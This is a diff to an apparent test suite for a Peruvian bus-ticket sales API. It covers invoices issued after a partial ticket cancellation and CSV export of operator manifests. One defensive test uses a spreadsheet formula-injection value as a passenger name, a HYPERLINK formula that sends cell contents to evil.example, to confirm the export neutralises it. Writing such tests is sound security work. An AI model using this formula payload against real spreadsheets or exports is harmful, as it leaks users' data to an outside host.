@@ -1,4 +1,5 @@
-import { eq } from 'drizzle-orm';
+import type { Choice, Ticket } from '@rumbo/shared/schemas';
+import { asc, eq } from 'drizzle-orm';
 import { outbox } from '../mail/mail.tables';
 import { parseOperatorTokens } from '../operators/operators';
 import { decimalOf } from '../payments/signing';
@@ -19,9 +20,9 @@ const clock = Date.now();
 const now = () => new Date(clock);
 const api = setupSandboxApp(now, { operators: parseOperatorTokens(`ops-lima=${TOKEN}`) });
 
-async function paidPurchase(days = 9, passengers: Passenger[] = []) {
+async function paidPurchase(days = 9, count = 1, passengers: Passenger[] = []) {
   const trip = await findTrip(api.app, 'LIM', 'ICA', days);
-  const { clave } = await heldPurchase(api.app, [trip], 1, passengers);
+  const { clave } = await heldPurchase(api.app, [trip], count, passengers);
   const res = await post(api.app, '/rest/venta/reserva', { clave_bloqueo: clave, comprador: BUYER, terminos: true });
   const { codigo, total_centimos } = res.json().data;
   const referencia = await startSafetyPay(api.app, api.db, codigo, clave);
@@ -99,6 +100,36 @@ describe("the buyer's vouchers (issue 34)", () => {
     expect(res.statusCode).toBe(409);
     expect(res.json()).toMatchObject({ code: 'sale.factura.plazo' });
   });
+
+  it('issue 45 item 2: a factura after one ticket of two was cancelled states what is still sold and not credited', async () => {
+    const { codigo, clave, creserva } = await paidPurchase(11, 2);
+    const [kept, cancelled] = (await post(api.app, '/rest/venta/consulta', { codigo, clave_bloqueo: clave })).json().data.boletos as Ticket[];
+    const cancel = await post(api.app, '/rest/venta/anular', { codigo, clave_bloqueo: clave, numero: cancelled!.numero, destino: 'original' });
+    expect(cancel.statusCode).toBe(200);
+    const refunded = (cancel.json().data as Choice).monto_centimos;
+    const fee = cancelled!.precio_centimos - refunded;
+    expect(fee).toBeGreaterThan(0);
+
+    const res = await post(api.app, '/rest/venta/comprobante/factura', { codigo, clave_bloqueo: clave, ruc: '20100047218', razon_social: 'Banco de Crédito del Perú' });
+    expect(res.statusCode).toBe(200);
+    const [boleta, refund, voiding, factura, ...more] = await api.db.select().from(comprobante).where(eq(comprobante.creserva, creserva)).orderBy(asc(comprobante.ccomprobante));
+    expect(more).toEqual([]);
+    expect(boleta).toMatchObject({ tipo: '03', total_centimos: kept!.precio_centimos + cancelled!.precio_centimos, vigencia: 'anulado' });
+    expect(refund).toMatchObject({ tipo: '07', total_centimos: refunded });
+    // The boleta is voided for what it still stated, and the factura states that: the seat kept, and the fee kept of the other.
+    const open = boleta!.total_centimos - refunded;
+    expect(voiding).toMatchObject({ tipo: '07', motivo: '01', total_centimos: open });
+    expect(factura).toMatchObject({ tipo: '01', total_centimos: open, vigencia: 'vigente' });
+    const lines = factura!.xml.match(/<cac:InvoiceLine>[\s\S]*?<\/cac:InvoiceLine>/g)!;
+    const amount = (line: string) => Math.round(Number(/<cbc:LineExtensionAmount currencyID="PEN">([\d.]+)</.exec(line)![1]) * 100);
+    const seatLine = lines.find((line) => line.includes(`asiento ${kept!.nasiento}<`) && line.includes('Pasaje'))!;
+    const feeLine = lines.find((line) => line.includes(`asiento ${cancelled!.nasiento}<`))!;
+    expect(lines).toHaveLength(2);
+    expect(amount(seatLine)).toBe(kept!.precio_centimos);
+    expect(feeLine).toContain('Cargo por anulación');
+    expect(amount(feeLine)).toBe(fee);
+    expect(await validateUbl(factura!.xml)).toEqual([]);
+  });
 });
 
 describe("the operators' view of the vouchers", () => {
@@ -128,7 +159,7 @@ describe("the operators' view of the vouchers", () => {
 
   it('issue 45 item 3: a passenger named with a spreadsheet formula is plain text in the manifest CSV', async () => {
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
-    const { trip } = await paidPurchase(11, [{ ...ADULT, numero: '41234567', nombres: formula, paterno: '@SUMA(1', materno: '+1' }]);
+    const { trip } = await paidPurchase(11, 1, [{ ...ADULT, numero: '41234567', nombres: formula, paterno: '@SUMA(1', materno: '+1' }]);
     const csv = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
     expect(csv.statusCode).toBe(200);
     const line = csv.body.split('\r\n').find((l) => l.includes('41234567'))!;
